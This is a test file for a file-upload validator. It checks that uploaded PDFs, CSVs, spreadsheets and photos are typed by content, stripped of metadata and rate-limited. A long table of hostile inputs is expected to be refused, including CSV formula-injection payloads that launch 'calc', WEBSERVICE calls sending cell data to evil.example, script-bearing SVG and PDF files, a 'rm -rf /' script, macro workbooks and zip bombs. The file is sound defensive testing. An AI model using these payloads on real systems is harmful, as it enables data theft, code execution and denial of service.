import sharp from 'sharp'
import { expect, test } from 'vitest'
import { scannedPdf } from '../../inventory/testing.ts'
import { testDatabase } from '../../platform/db/testing.ts'
import { docx, withType, workbook } from '../../uploads/testing.ts'
import { checkFile } from './check-file.ts'

const database = testDatabase()
let senders = 0
const sender = (spender = `192.0.2.${++senders}`) => ({
  db: database.db,
  clientAddress: spender,
  whose: 'somebody',
  spender,
  allowMegapixels: async () => {},
})
const check = (bytes: Uint8Array | string) =>
  checkFile(typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes, sender())
const photograph = () => sharp({ create: { width: 300, height: 200, channels: 3, background: '#246' } })
const RELS = 'xl/_rels/workbook.xml.rels'
const related = (type: string, target = 'x', mode = '') =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}/></Relationships>`

test("a buyer's file is typed by its content, and stays unchanged", async () => {
  const pdf = scannedPdf()
  expect(await check(pdf)).toEqual({ type: 'pdf', bytes: pdf })
  const list = Buffer.from('Part,Quantity\nMS20470AD4-6,100\n-20,+1\n')
  expect(await check(list)).toEqual({ type: 'csv', bytes: list })
  expect(await check('Bezeichnung;Menge\nD\xfcse;1\n')).toMatchObject({ type: 'csv' })
  expect(await check(Buffer.from('\ufeffPart\tQuantity\n', 'utf16le'))).toMatchObject({ type: 'csv' })
  const sheet = workbook({
    'xl/printerSettings/printerSettings1.bin': 'x',
    [RELS]: related('hyperlink', 'https://example.com/', 'TargetMode="External"'),
  })
  expect(await check(sheet)).toEqual({ type: 'xlsx', bytes: sheet })
})

test('the processor time for pictures counts per sender, and a sender above the limit must wait', async () => {
  const png = await photograph().png().toBuffer()
  await checkFile(png, sender('198.51.100.1'))
  const { rows } = await database.db.$client.query(
    `SELECT points FROM rate_limits WHERE key = 'picture reading:198.51.100.1'`,
  )
  expect(rows[0]?.points).toBeGreaterThan(1)
  await database.db.$client.query(`UPDATE rate_limits SET points = 150000 WHERE key = 'picture reading:198.51.100.1'`)
  await expect(checkFile(png, sender('198.51.100.1'))).rejects.toMatchObject({ code: 'TOO_MANY_ATTEMPTS' })
  expect(await checkFile(png, sender('198.51.100.2'))).toMatchObject({ type: 'png' })
})

test('a photograph is re-encoded in its own format, without metadata', async () => {
  const jpeg = await photograph()
    .jpeg()
    .withExif({ IFD0: { Copyright: 'home address' } })
    .toBuffer()
  const hidden = Buffer.concat([jpeg, Buffer.from('<script>alert(1)</script>')])
  const { type, bytes } = await check(hidden)
  expect(type).toBe('jpg')
  expect(Buffer.from(bytes).toString('latin1')).not.toMatch(/script|home address/)
  expect(await sharp(bytes).metadata()).toMatchObject({ format: 'jpeg', width: 300, height: 200 })
  const png = await check(await photograph().png().toBuffer())
  expect(png.type).toBe('png')
  expect(await sharp(png.bytes).metadata()).toMatchObject({ format: 'png', width: 300 })
})

const sheet = (cells: string) =>
  workbook({ 'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row>${cells}</row></sheetData></worksheet>` })

test('a photograph of thousands of scans is refused before it is decoded', async () => {
  const jpeg = await photograph().jpeg({ progressive: true }).toBuffer()
  const scan = Buffer.from([0xff, 0xda, 0x00, 0x08, 0x01, 0x01, 0x00, 0x01, 0x3f, 0x00, 0x00])
  const hostile = Buffer.concat([jpeg.subarray(0, -2), ...Array<Buffer>(150).fill(scan), jpeg.subarray(-2)])
  await expect(check(hostile)).rejects.toMatchObject({ code: 'PICTURE_BROKEN' })
  expect(await check(jpeg)).toMatchObject({ type: 'jpg' })
})

test('formulas that calculate, and figures with signs, are accepted in lists', async () => {
  const list = Buffer.from(
    'Part,Qty,Note\n="00123",-5,"call (904) 555-0100"\n+1 904 555 0100,@home,-4.5\n-5,3|4 in,Great!\n=A1+B2,1,2\n',
  )
  expect(await check(list)).toMatchObject({ type: 'csv' })
  const words = Buffer.from(
    'Note,Sum\n- seal (rubber),=ROUND(SUM(A1:A9)*1.2,2)\n- webbing (nylon),＝SUM(A1)\n+ see https://a.example,-4\n=== total ===,1\n',
  )
  expect(await check(words)).toMatchObject({ type: 'csv' })
  const formulas = sheet('<c><f>SUM(A1:A9)</f></c><c><f>\'A|B\'!C1</f></c><c><f>IF(A1="call (1)",1,2)</f></c>')
  expect(await check(formulas)).toMatchObject({ type: 'xlsx' })
})

const HOSTILE: [string, () => Uint8Array | string, string][] = [
  ['nothing', () => '', 'ATTACHMENT_TYPE'],
  ['a web page', () => '<!doctype html><script>alert(1)</script>', 'ATTACHMENT_TYPE'],
  [
    'a drawing that may run scripts',
    () => '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'ATTACHMENT_TYPE',
  ],
  ['a workbook of commands as text (SYLK)', () => 'ID;P\nO;E\nC;X1;Y1;K0;EEXEC("calc")\nE', 'ATTACHMENT_TYPE'],
  ['a script', () => '#!/bin/sh\nrm -rf /\n', 'ATTACHMENT_TYPE'],
  ['a program', () => 'MZ\x90\0\x03\0\0\0', 'ATTACHMENT_TYPE'],
  ['a workbook of old', () => Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'ATTACHMENT_TYPE'],
  ['a letter of Word', () => docx({ '[Content_Types].xml': 'x', 'word/document.xml': 'x' }), 'ATTACHMENT_TYPE'],
  ['an archive', () => docx({ 'a.exe': 'MZ' }), 'ATTACHMENT_TYPE'],
  ['half a PDF', () => scannedPdf().slice(0, 100), 'ATTACHMENT_BROKEN'],
  ['a PDF with a script', () => scannedPdf('x', '4 0 obj\n<< /S /JavaScript >>\nendobj\n'), 'ATTACHMENT_ACTIVE'],
  ['half a photograph', () => '\xff\xd8\xff\xe0 and no more', 'PICTURE_BROKEN'],
  ['a list that starts a program', () => "Part,Price\n=cmd|'/C calc'!A0,1\n", 'ATTACHMENT_ACTIVE'],
  ['a list that fetches', () => 'Part,Price\n=WEBSERVICE("https://evil.example/"&A1),1\n', 'ATTACHMENT_ACTIVE'],
  [
    'a list with a link as a formula',
    () => 'Part\n" =HYPERLINK(""https://e.example/"",""AN3-5A"")"\n',
    'ATTACHMENT_ACTIVE',
  ],
  [
    'a list that starts a program, behind many characters',
    () => `Part\n=${'1+'.repeat(300)}cmd|'/C calc'!A0\n`,
    'ATTACHMENT_ACTIVE',
  ],
  ['a topic with commas', () => "Part\tPrice\n@SUM(1)*cmd|'/C calc a, b'!A0\t1\n", 'ATTACHMENT_ACTIVE'],
  ['full-width signs', () => Buffer.from("Part\n＝cmd|'/C calc'!A0\n"), 'ATTACHMENT_ACTIVE'],
  ['a workbook that starts a program', () => sheet("<c><f>cmd|' /C calc'!A0</f></c>"), 'ATTACHMENT_ACTIVE'],
  [
    'a workbook with such a formula in pieces',
    () => sheet("<c><x:f>cmd&#x7c;<![CDATA[' /C calc']]><!-- -->!A0</x:f></c>"),
    'ATTACHMENT_ACTIVE',
  ],
  [
    'a workbook that requests an address',
    () => sheet('<c><f>_xlfn.WEBSERVICE("https://e.example/")</f></c>'),
    'ATTACHMENT_ACTIVE',
  ],
  [
    'a name that does',
    () => workbook({ 'xl/workbook.xml': '<workbook><definedName>RTD("x",,"y")</definedName></workbook>' }),
    'ATTACHMENT_ACTIVE',
  ],
  ['a separator that the list names', () => 'sep=|\na|=WEBSERVICE("http://evil.example/"&A1)|b\n', 'ATTACHMENT_ACTIVE'],
  ['a quotation mark behind a blank', () => `x, "b,=cmd|' /C calc'!A0,c"\n`, 'ATTACHMENT_ACTIVE'],
  ['a cell of an external file', () => "a,='\\\\evil.example\\share\\[a.xlsx]S'!A1\n", 'ATTACHMENT_ACTIVE'],
  ['a cell of a file on the web', () => "='http://evil.example/[a.xlsx]S'!A1\n", 'ATTACHMENT_ACTIVE'],
  ['a cell of a file without quotes', () => '=[a.xlsx]S!A1\n', 'ATTACHMENT_ACTIVE'],
  ['a quotation that only semicolons begin', () => 'a;"b,=WEBSERVICE(A1),c"\n', 'ATTACHMENT_ACTIVE'],
  ['a quotation that only commas begin', () => 'a,"b;=cmd|\' /C calc\'!A0;c"\n', 'ATTACHMENT_ACTIVE'],
  ['a quotation that only tabs begin', () => 'a\t"b,=cmd|\' /C calc\'!A0,c"\n', 'ATTACHMENT_ACTIVE'],
  ['sheets with quotation marks around a function', () => `='a"b'!A1&WEBSERVICE(A2)&'c"d'!A1\n`, 'ATTACHMENT_ACTIVE'],
  ['sheets with quotation marks around a program', () => `='a"b'!A1+cmd|'/C calc'!A0+'c"d'!A1\n`, 'ATTACHMENT_ACTIVE'],
  [
    'sheets with quotation marks around a file',
    () => `${String.raw`='a"b'!A1+'\\evil\s\[a.xlsx]S'!A1+'c"d'!A1`}\n`,
    'ATTACHMENT_ACTIVE',
  ],
  ['a function between apostrophes', () => "='&WEBSERVICE(A1)&'\n", 'ATTACHMENT_ACTIVE'],
  ['a function in German', () => 'a;b\n=WEBDIENST(A2);1\n', 'ATTACHMENT_ACTIVE'],
  ['a function in French behind a sign', () => 'a;b\n+LIEN_HYPERTEXTE(A2;"x");1\n', 'ATTACHMENT_ACTIVE'],
  ['a function in Russian', () => Buffer.from('a;b\n@ГИПЕРССЫЛКА(A2);1\n'), 'ATTACHMENT_ACTIVE'],
  ['a function that no list knows', () => 'a,b\n=NEWFETCH(A2),1\n', 'ATTACHMENT_ACTIVE'],
  ['a function named by its position', () => `a,b\n=INDIRECT("'"&A2),1\n`, 'ATTACHMENT_ACTIVE'],
  ['an unknown function with an address', () => 'a;b\n-VISIT("https://e.example/");1\n', 'ATTACHMENT_ACTIVE'],
  ['full-width letters', () => Buffer.from('a\n＋ＷＥＢＳＥＲＶＩＣＥ（A1）\n'), 'ATTACHMENT_ACTIVE'],
  ['the minus of typesetting', () => Buffer.from('a\n\u2212HYPERLINK(A1)\n'), 'ATTACHMENT_ACTIVE'],
  ['a formula behind a vertical tab', () => 'a\v=HYPERLINK(A1)\n', 'ATTACHMENT_ACTIVE'],
  ['a formula behind a line separator', () => Buffer.from('a\u2028=HYPERLINK(A1)\n'), 'ATTACHMENT_ACTIVE'],
  [
    'a formula behind characters that are not seen',
    () => Buffer.from('a\n\u00A0\u200B=HYPERLINK(A1)\n'),
    'ATTACHMENT_ACTIVE',
  ],
  ['a cell of another file of LibreOffice', () => "a\n='file:///evil/a.ods'#$Sheet1.A1\n", 'ATTACHMENT_ACTIVE'],
  [
    'a cell of another file of LibreOffice, after a sign',
    () => "a\n+'\\\\evil\\a.ods'#Sheet1.A1\n",
    'ATTACHMENT_ACTIVE',
  ],
  ['a topic in quotation marks', () => 'a\n=cmd|"/c calc"!A0\n', 'ATTACHMENT_ACTIVE'],
  [
    'a cell of another file of LibreOffice, in a workbook',
    () => sheet("<c><f>'file:///evil/a.ods'#$Sheet1.A1</f></c>"),
    'ATTACHMENT_ACTIVE',
  ],
  [
    'a sheet with another file extension',
    () => workbook({ 'xl/worksheets/sheet2.png': '<sheet><f>RTD("x")</f></sheet>' }),
    'ATTACHMENT_ACTIVE',
  ],
  [
    'a formula of a table',
    () => sheet('<c><calculatedColumnFormula>RTD("x")</calculatedColumnFormula></c>'),
    'ATTACHMENT_ACTIVE',
  ],
  ['a formula without an end', () => sheet(`<c><f>${'1+'.repeat(5000)}</f></c>`), 'ATTACHMENT_BROKEN'],
  ['a sheet that is not XML', () => sheet('<c>'), 'ATTACHMENT_BROKEN'],
  ['macros', () => workbook({ 'xl/vbaProject.bin': 'x' }), 'ATTACHMENT_ACTIVE'],
  [
    'macros by another name',
    () => workbook({ 'xl/x.xml': 'x' }, withType('application/vnd.ms-office.vbaProject')),
    'ATTACHMENT_ACTIVE',
  ],
  ['macros of Excel 4', () => workbook({ [RELS]: related('xlMacrosheet') }), 'ATTACHMENT_ACTIVE'],
  ['links to other workbooks', () => workbook({ [RELS]: related('externalLink') }), 'ATTACHMENT_ACTIVE'],
  [
    'a connection to a database',
    () => workbook({}, withType('application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml')),
    'ATTACHMENT_ACTIVE',
  ],
  [
    'a workbook that fetches',
    () => workbook({ [RELS]: related('image', 'https://x.example/', 'TargetMode="External"') }),
    'ATTACHMENT_ACTIVE',
  ],
  ['another file in it', () => workbook({ 'xl/embeddings/a.exe': 'MZ' }), 'ATTACHMENT_ACTIVE'],
  [
    'a zip bomb',
    () => workbook({ 'xl/worksheets/sheet2.xml': Buffer.alloc(160 * 2 ** 20, ' ') }),
    'ATTACHMENT_UNPACKS',
  ],
  ['too much', () => Buffer.alloc(10 * 2 ** 20 + 1, 'a'), 'ATTACHMENT_TOO_LARGE'],
]
test.each(HOSTILE)('%s is refused', async (_, bytes, code) => {
  await expect(check(bytes())).rejects.toMatchObject({ code })
})

test('a zip bomb split over many parts is refused as one, and a part that cannot be unpacked makes the file broken', async () => {
  const piece = Buffer.from(`<sheet>${' '.repeat(20 * 2 ** 20)}</sheet>`)
  const parts = Object.fromEntries(Array.from({ length: 8 }, (_, at) => [`xl/worksheets/sheet${at + 2}.xml`, piece]))
  await expect(check(workbook(parts))).rejects.toMatchObject({ code: 'ATTACHMENT_UNPACKS' })
  const broken = workbook()
  const at = broken.indexOf('xl/worksheets/sheet1.xml') + 'xl/worksheets/sheet1.xml'.length
  broken.fill(0xff, at, at + 4)
  await expect(check(broken)).rejects.toMatchObject({ code: 'ATTACHMENT_BROKEN' })
})
